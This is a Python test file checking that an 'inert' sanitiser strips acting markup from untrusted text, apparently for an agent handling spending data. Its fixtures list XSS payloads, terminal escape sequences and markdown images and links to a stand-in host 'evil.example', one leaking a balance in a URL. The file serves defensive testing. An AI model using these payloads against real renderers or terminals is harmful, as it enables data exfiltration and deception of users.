"""What other people wrote becomes no HTML, no image, no link and no command to a terminal, and reads as it did."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agents.inert import WORD_JOINER, inert

ACTING = {"html_inline", "html_block", "image", "link_open"}
GFM_LINK = re.compile(r"(https?|ftp)://\S|\bwww\.\S|[\w.+-]+@[\w-]+\.\w", re.IGNORECASE)
ATTACKS = [
    "<script>alert(1)</script>",
    "Paid <img src=x onerror=alert(1)> today",
    "<!-- hidden --> <?php ?> </div>",
    "![](https://evil.example/leak?balance=9000)",
    "![balance][1]\n\n[1]: https://evil.example/p.png",
    "[Click to confirm](https://evil.example/confirm)",
    "[Click](<https://evil.example>)",
    "[Click]\n\n[Click]: https://evil.example",
    "<https://evil.example> <mailto:a@evil.example>",
    "see https://evil.example/x and HTTP://EVIL.EXAMPLE or www.evil.example, a@evil.example",
]
COMMANDS = ["\x1b]8;;file:///etc\x07click\x1b]8;;\x07", "\x1b[2J", "\x9b2J", "\u202eevil\u202c", "a\rb"]
"""To a terminal; the last but one turns what follows around."""


def actions(text: str) -> set[str]:
    tokens = MarkdownIt("commonmark").parse(text)
    return ACTING & {token.type for block in tokens for token in [block, *(block.children or [])]}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_would_act_does_not(attack: str) -> None:
    assert actions(attack) or GFM_LINK.search(attack)
    assert not actions(inert(attack)) and not GFM_LINK.search(inert(attack))


@pytest.mark.parametrize("command", COMMANDS)
def test_a_terminal_gets_no_commands(command: str) -> None:
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", inert(command))


@given(st.text(alphabet="ab<>!?/[]()#:.@w\\\"'&;=\n `*_~|h-", max_size=60))
def test_no_combination_of_marks_acts(text: str) -> None:
    assert actions(inert(text)) == set()


@pytest.mark.parametrize(
    "text", ["Groceries, May 2026: ₹2,873.95.", "M&S [Store 12] *50 % < 100", "AMAZON.IN/7-Eleven #24", "1 < 2 > 0"]
)
def test_ordinary_names_and_figures_stay_as_they_are(text: str) -> None:
    assert inert(text) == text


def test_it_reads_as_it_did() -> None:
    assert inert("www.netflix.com a@b.in").replace(WORD_JOINER, "") == "www.netflix.com a@b.in"
